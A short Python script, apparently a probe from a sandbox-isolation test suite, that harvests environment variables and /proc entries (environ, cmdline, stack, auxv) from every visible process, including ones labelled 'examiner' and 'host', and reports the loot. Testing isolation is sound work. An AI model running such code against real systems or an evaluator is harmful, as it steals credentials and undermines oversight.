"""Reads the environment and the command line of every process it can see, its own ancestors above all."""

# control: T0
import os

from toolkit import TARGETS, marks, read, tell

loot = marks(repr(dict(os.environ)))
try:
    pids = {name for name in os.listdir("/proc") if name.isdigit()}
except OSError:
    pids = set()
pids |= {str(TARGETS["examiner"]), str(TARGETS["host"]), str(os.getppid()), "self", "thread-self", "1"}
for pid in pids:
    for name in ("environ", "cmdline", "comm", "stack", "auxv"):
        loot += read(f"/proc/{pid}/{name}")
tell(globals(), loot)
